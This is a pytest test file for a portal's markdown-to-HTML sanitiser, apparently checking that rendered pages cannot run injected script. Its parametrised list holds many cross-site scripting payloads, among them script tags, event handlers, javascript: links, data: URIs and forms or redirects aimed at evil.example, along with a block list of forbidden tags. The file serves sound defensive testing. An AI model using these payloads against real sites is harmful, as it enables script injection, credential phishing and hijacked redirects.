"""portal/pages/markdown.py"""

import pytest

from portal.pages.markdown import to_html


@pytest.fixture(autouse=True)
def request_context(app):
    with app.test_request_context():
        yield


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src=x onerror="alert(1)">',
        '<svg onload="alert(1)"><use href="x"/></svg>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="  JaVaScRiPt:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        "[x](javascript:alert(1))",
        "[x](vbscript:alert(1))",
        "<javascript:alert(1)>",
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="x"></object><embed src="x">',
        '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
        '<style>body{display:none}</style><p style="position:fixed">x</p>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
        '<details ontoggle="alert(1)" open>x</details>',
        '[x](https://a.example "onmouseover=alert(1)")<b onclick=alert(1)>x</b>',
        '<p class="skip" id="content">x</p>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "```<script>\nx\n```",
    ],
)
def test_nothing_runs(text):
    html = str(to_html(text)).lower()
    tags = "".join(part.partition(">")[0] for part in html.split("<")[1:])
    for forbidden in (
        *(
            "script",
            "javascript:",
            "vbscript:",
            "data:",
            "onerror",
            "onload",
            "onclick",
            "ontoggle",
        ),
        *("iframe", "object", "embed", "form", "input", "style", "base", "meta", "svg", "class="),
        "id=",
    ):
        assert forbidden not in tags.replace('title="onmouseover=alert(1)"', ""), html


def test_text_of_an_attack_stays_visible_in_code():
    assert "&lt;script&gt;" in to_html("`<script>`")


def test_the_usual():
    html = to_html("# One\n\n## Two\n\n*a* **b** ~~c~~\n\n- x\n\n> q\n\n---\n")
    assert "<h1" not in html  # the page's title is the h1
    assert html.count("<h2>") == 2
    for tag in (
        "<em>a</em>",
        "<strong>b</strong>",
        "<s>c</s>",
        "<li>x</li>",
        "<blockquote>",
        "<hr>",
    ):
        assert tag in html


def test_tables_are_aligned_without_style():
    html = to_html("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")
    assert '<td class="center">2</td>' in html
    assert '<td class="right">3</td>' in html
    assert "style" not in html
    assert '<th scope="col">a</th>' in html


@pytest.mark.parametrize(
    ("href", "result"),
    [
        ("about.md", "/about"),
        ("about.md#part", "/about#part"),
        ("https://example.org/about.md", "https://example.org/about.md"),
        ("mailto:me@example.org", "mailto:me@example.org"),
        ("/about", "/about"),
        ("#part", "#part"),
    ],
)
def test_links(href, result):
    assert f'<a href="{result}">' in to_html(f"[x]({href})")


def test_links_bear_the_prefix(app):
    with app.test_request_context(base_url="http://localhost/backend"):
        assert 'href="/backend/about"' in to_html("[x](about.md)")


def test_harmless_html_stays():
    text = '<figure><img src="/static/logo.svg" alt="Logo" width="64"><figcaption>x</figcaption>'
    html = to_html(text)
    assert '<img src="/static/logo.svg" alt="Logo" width="64">' in html
    assert "<kbd>F5</kbd>" in to_html("<kbd>F5</kbd>")
